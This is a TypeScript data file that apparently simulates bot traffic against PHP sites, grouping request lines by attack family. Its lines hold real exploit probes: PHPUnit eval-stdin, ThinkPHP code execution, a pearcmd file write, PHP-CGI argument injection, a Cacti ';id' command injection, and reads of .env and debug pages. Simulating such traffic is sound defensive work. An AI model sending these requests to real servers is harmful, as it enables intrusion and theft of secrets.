import { type Kind, scan } from '../second/kind.ts';
import { DISGUISES, SCRIPTS } from './agents.ts';
import { BARE, DJANGO, LARAVEL, NEWS, NEXT, OLDPHP, PLAIN, REST, STATIC, STRICT, SYMFONY } from './sites.ts';

// Exploits of PHP and of what is written with it.

export const PHP_SCANS: readonly Kind[] = [
  scan(
    'PHPUnit in every vendor folder',
    {
      on: [...BARE, LARAVEL, NEXT],
      agents: ['Custom-AsyncHttpClient', 'libredtail-http'],
      clients: 3,
      pace: 0.2,
    },
    `
    POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
    GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
    GET /vendor/phpunit/phpunit/Util/PHP/eval-stdin.php
    GET /vendor/phpunit/Util/PHP/eval-stdin.php
    GET /vendor/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
    GET /phpunit/phpunit/src/Util/PHP/eval-stdin.php
    GET /lib/phpunit/src/Util/PHP/eval-stdin.php
    GET /laravel/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
    GET /www/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
    GET /ws/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
    GET /yii/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
    GET /zend/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
    GET /panel/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
    GET /index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello
    GET /public/index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello
    GET /index.php?lang=../../../../../../../../usr/local/lib/php/pearcmd&+config-create+/&/<?echo(md5(\\x22hi\\x22));?>+/tmp/index1.php
    GET /index.php?lang=../../../../../../../../tmp/index1
    GET /containers/json`,
  ),
  scan(
    'PHPUnit alone',
    { on: [STATIC, OLDPHP, DJANGO], agents: DISGUISES, clients: 3, pace: 2 },
    `
    GET /vendor/phpunit/phpunit/phpunit.xsd
    GET /vendor/phpunit/phpunit/LICENSE/eval-stdin.php
    POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php`,
  ),
  scan(
    'ThinkPHP of several versions',
    {
      on: [OLDPHP, REST, ...BARE],
      agents: [DISGUISES[2] as string, DISGUISES[0] as string],
      clients: 3,
      pace: 0.9,
    },
    `
    GET /index.php?s=index/%5Cthink%5Ctemplate%5Cdriver%5Cfile/write&cacheFile=h.php&content=%3C?php%20phpinfo();?%3E
    GET /index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=-1
    POST /index.php?s=captcha
    GET /public/index.php?s=index/think%5Crequest/input?data[]=phpinfo()&filter=assert
    GET /?a=fetch&content=%3C?php+die(md5(123456));?%3E 200
    GET /TP/public/index.php
    GET /thinkphp/html/public/index.php
    GET /html/public/index.php`,
  ),
  scan(
    'arguments to PHP on Windows',
    { on: [...BARE, STATIC, SYMFONY], agents: ['libredtail-http', ...SCRIPTS], clients: 3, pace: 0.5 },
    `
    POST /hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input
    POST /?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input 405
    POST /php-cgi/php-cgi.exe?%ADd+cgi.force_redirect%3d0+%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input
    POST /cgi-bin/php?-d+allow_url_include%3don+-d+safe_mode%3doff+-d+auto_prepend_file%3dphp://input+-n`,
  ),
  scan(
    'phpinfo by any name',
    { on: STRICT, agents: DISGUISES, clients: 4, pace: 0.6, picks: 10 },
    `
    GET /phpinfo.php
    GET /info.php
    GET /php.php
    GET /i.php
    GET /pinfo.php
    GET /test.php
    GET /phpinfo
    GET /_profiler/phpinfo
    GET /app_dev.php/_profiler/phpinfo
    GET /infophp.php
    GET /old_phpinfo.php
    GET /dashboard/phpinfo.php
    GET /php_info.php
    GET /time.php
    GET /phpversion.php
    GET /asdf.php
    GET /infos.php
    GET /xampp/phpinfo.php`,
  ),
  scan(
    'phpMyAdmin under every name',
    {
      on: [...BARE, ...PLAIN, OLDPHP],
      agents: [DISGUISES[4] as string, DISGUISES[1] as string],
      clients: 3,
      pace: 0.3,
      picks: 18,
    },
    `
    GET /phpmyadmin/index.php?lang=en
    GET /phpMyAdmin/index.php?lang=en
    GET /pma/index.php?lang=en
    GET /PMA/index.php?lang=en
    GET /mysql/index.php?lang=en
    GET /dbadmin/index.php?lang=en
    GET /db/phpmyadmin/index.php?lang=en
    GET /admin/phpmyadmin/index.php?lang=en
    GET /phpmyadmin2/index.php?lang=en
    GET /phpMyAdmin-5.2.0/index.php?lang=en
    GET /phpMyAdmin-4.9.7-all-languages/index.php?lang=en
    GET /sql/phpmanager/index.php?lang=en
    GET /myadmin/index.php?lang=en
    GET /sqlmanager/index.php?lang=en
    GET /web/phpMyAdmin/index.php?lang=en
    GET /xampp/phpmyadmin/index.php?lang=en
    GET /phppma/index.php?lang=en
    GET /shopdb/index.php?lang=en
    GET /mysqladmin/index.php?lang=en
    GET /tools/phpMyAdmin/index.php?lang=en
    GET /phpmyadmin/scripts/setup.php
    GET /websql/index.php?lang=en`,
  ),
  scan(
    'Adminer by version',
    { on: [LARAVEL, OLDPHP, SYMFONY], agents: SCRIPTS, clients: 2, pace: 0.8 },
    `
    GET /adminer.php
    GET /adminer-4.8.1.php
    GET /adminer-4.7.6-mysql.php
    GET /adminer/adminer.php
    GET /_adminer.php
    GET /db.php
    GET /sql.php
    GET /mysql-adminer.php
    GET /wp-content/adminer.php`,
  ),
  scan(
    'Laravel with its debugger on',
    { on: [LARAVEL, OLDPHP, ...BARE], agents: SCRIPTS, clients: 3, pace: 0.6 },
    `
    GET /_ignition/health-check
    POST /_ignition/execute-solution 405
    GET /telescope/requests
    GET /horizon/dashboard
    GET /storage/logs/laravel.log
    GET /.env
    GET /log-viewer
    GET /livewire/update 405
    GET /public/_ignition/health-check
    GET /_debugbar/open`,
  ),
  scan(
    'debug pages of PHP frameworks',
    { on: [SYMFONY, OLDPHP, NEWS], agents: DISGUISES, clients: 2, pace: 0.9 },
    `
    GET /app_dev.php
    GET /_profiler/empty/search/results?limit=10
    GET /app_dev.php/_profiler/open?file=app/config/parameters.yml
    GET /_profiler/open?file=.env
    GET /_fragment?_path=_controller=phpcredits%26flag=-1 403
    GET /debug/default/view?panel=config
    GET /index.php?r=debug/default/view
    GET /frontend_dev.php
    GET /web/app_dev.php/_configurator/step/0`,
  ),
  scan(
    'leftover tests and mail scripts',
    { on: [OLDPHP, STATIC], agents: DISGUISES, clients: 2, pace: 0.5 },
    `
    GET /vendor/htmlawed/htmlawed/htmLawedTest.php
    GET /glpi/vendor/htmlawed/htmlawed/htmLawedTest.php
    GET /vendor/phpmailer/phpmailer/examples/index.php
    GET /roundcube/index.php
    GET /webmail/index.php
    GET /rcmail/
    GET /mail/config/config.inc.php
    GET /cacti/remote_agent.php?action=polldata&local_data_ids[0]=1&host_id=1&poller_id=;id
    GET /zabbix/jsrpc.php?type=9&method=screen.get&profileIdx=web.item.graph&resourcetype=17
    GET /vicidial/admin.php
    GET /a2billing/customer/templates/default/footer.tpl
    GET /recordings/index.php`,
  ),
];
